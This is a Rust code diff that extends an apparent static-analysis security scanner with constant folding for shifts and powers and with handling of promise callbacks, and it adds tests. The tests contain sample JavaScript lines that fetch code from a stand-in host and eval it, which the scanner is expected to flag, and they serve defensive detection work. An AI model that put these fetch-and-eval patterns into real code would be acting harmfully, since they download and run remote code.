@@ -813,6 +813,17 @@ impl<'e, 'f, 'p> Eval<'e, 'f, 'p> {
                 v.exact = text.exact;
                 v
             }
+            "<<" | ">>" | "**" | "&" | "|" if left.num.is_some() && right.num.is_some() => {
+                let (a, b) = (left.num.unwrap_or(0.0), right.num.unwrap_or(0.0));
+                let (x, n) = (a as i64, (b as i64).clamp(0, 63) as u32);
+                number(match op {
+                    "<<" => x.checked_shl(n).unwrap_or(i64::MAX) as f64,
+                    ">>" => (x >> n) as f64,
+                    "&" => (x & b as i64) as f64,
+                    "|" => (x | b as i64) as f64,
+                    _ => a.powf(b),
+                })
+            }
             "^" | "-bxor" => match (left.num, right.num) {
                 (Some(a), Some(b)) => number(((a as i64) ^ (b as i64)) as f64),
                 _ => Val::unknown("…").tainted(left.taint.union(right.taint)),
@@ -2679,6 +2690,19 @@ impl<'e, 'f, 'p> Eval<'e, 'f, 'p> {
     ) -> Val {
         let lower = name.to_ascii_lowercase();
         let first = args.pos.first().cloned().unwrap_or_default();
+        // A promise's callback gets what the promise resolves to (`fetch(u).then(r =>
+        // r.text()).then(eval)`): the callback called with the receiver.
+        if self.lang == Lang::JavaScript && lower == "then" && first.name.is_some() {
+            let resolved = CallArgs {
+                pos: vec![receiver],
+                named: Vec::new(),
+            };
+            return self.call(first, resolved, span, t, at);
+        }
+        // `'ab'.repeat(n)` as `'ab' * n`, bounded alike.
+        if lower == "repeat" && first.num.is_some() && receiver.num.is_none() && receiver.name.is_none() {
+            return self.binary("*", receiver, first, span);
+        }
         if matches!(receiver.name.as_deref(), Some(n) if is_whole_environment(n)) {
             match lower.as_str() {
                 "items" | "keys" | "values" | "entries" | "__repr__" | "__str__" | "tostring" => {
@@ -3385,7 +3409,7 @@ fn parts_text(parts: &[Part]) -> String {
 
 #[cfg(test)]
 mod tests {
-    use super::super::testing::{has, tags};
+    use super::super::testing::{findings_of, has, tags};
     use super::*;
 
     #[test]
@@ -3490,6 +3514,34 @@ mod tests {
             Lang::Python,
         );
         assert!(t.iter().any(|t| t == "egress/dns"), "{t:?}");
+    }
+
+    #[test]
+    fn a_promise_callback_gets_what_the_promise_resolves_to() {
+        for js in [
+            "fetch('https://x.example/p').then(r => r.text()).then(eval)",
+            "fetch('https://x.example/p').then(r => r.text()).then(code => eval(code))",
+            "fetch('https://x.example/p').then(function (r) { return r.text(); }).then(eval)",
+        ] {
+            assert!(has(js, Lang::JavaScript, "exec/fetched"), "{js}");
+        }
+        assert!(!has(
+            "fetch('https://x.example/p').then(r => r.json()).then(render)",
+            Lang::JavaScript,
+            "exec/fetched"
+        ));
+    }
+
+    #[test]
+    fn shifts_and_powers_fold_and_repeat_stops_at_the_bound() {
+        for code in ["s = 'A' * (1 << 30)", "s = 'A' * 2 ** 30"] {
+            assert!(findings_of(code, Lang::Python).fold_bound.is_some(), "{code}");
+        }
+        assert!(
+            findings_of("const s = 'ab'.repeat(1e9);", Lang::JavaScript)
+                .fold_bound
+                .is_some()
+        );
     }
 
     #[test]
